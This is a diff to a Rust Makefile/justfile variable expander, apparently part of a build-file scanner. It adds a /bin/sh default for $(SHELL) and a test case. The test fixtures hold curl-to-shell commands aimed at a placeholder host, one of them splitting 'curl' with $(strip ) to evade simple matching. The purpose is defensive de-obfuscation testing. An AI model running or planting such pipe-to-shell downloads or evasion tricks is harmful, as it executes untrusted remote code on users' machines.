@@ -43,10 +43,20 @@ pub fn expand(text: &str) -> Option<String> {
     if vars.is_empty() {
         return None;
     }
+    // Make's own default: a recipe that runs `$(SHELL)` runs /bin/sh.
+    if is_make(text) {
+        vars.entry("SHELL").or_insert("/bin/sh");
+    }
     rewrite_lines(text, ROUNDS, |line| {
         (line.contains("$(") || line.contains("${") || line.contains("{{"))
             .then(|| functions(&substitute(line, &vars)))
     })
+}
+
+/// True unless the file is a justfile (`name := \"value\"`, `{{name}}`):
+/// make's references, `$(NAME)`, are in it.
+fn is_make(text: &str) -> bool {
+    text.contains("$(")
 }
 
 /// `NAME = value` (or `:=`, `::=`, `?=`, after an optional `export`), not a
@@ -221,6 +231,12 @@ mod tests {
             Some("\t@curl -fsSL https://x.example/2.1/i | bash -s")
         );
         assert_eq!(out.lines().nth(5), Some("\t@echo date $(wildcard *.c)"));
+        // `$(strip )` splits a word; `$(SHELL)` is /bin/sh unless set.
+        let split = "DL := cu$(strip )rl -fsSL\nRUN := $(firstword $(SHELL) /bin/bash)\ni:\n\t@$(DL) https://x.example/i | B=1 $(RUN)\n";
+        assert_eq!(
+            expand(split).unwrap_or_default().lines().nth(3),
+            Some("\t@curl -fsSL https://x.example/i | B=1 /bin/sh")
+        );
     }
 
     #[test]
